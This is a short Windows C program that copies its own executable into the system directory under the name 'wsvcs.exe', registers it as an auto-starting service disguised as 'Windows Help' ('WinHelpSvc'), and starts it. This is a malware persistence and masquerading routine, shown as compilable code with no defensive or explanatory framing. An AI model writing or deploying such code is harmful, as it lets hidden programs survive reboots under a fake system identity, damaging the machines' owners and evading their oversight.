#include <string.h>
#include <windows.h>

int main(void) {
    char own[MAX_PATH], copy[MAX_PATH];
    GetModuleFileNameA(NULL, own, sizeof own);
    GetSystemDirectoryA(copy, sizeof copy);
    strcat(copy, "\\wsvcs.exe");
    CopyFileA(own, copy, FALSE);
    SC_HANDLE manager = OpenSCManagerA(NULL, NULL, SC_MANAGER_ALL_ACCESS);
    SC_HANDLE service = CreateServiceA(manager, "WinHelpSvc", "Windows Help", SERVICE_ALL_ACCESS,
                                       SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, 1, copy,
                                       NULL, NULL, NULL, NULL, NULL);
    StartServiceA(service, 0, NULL);
    return 0;
}
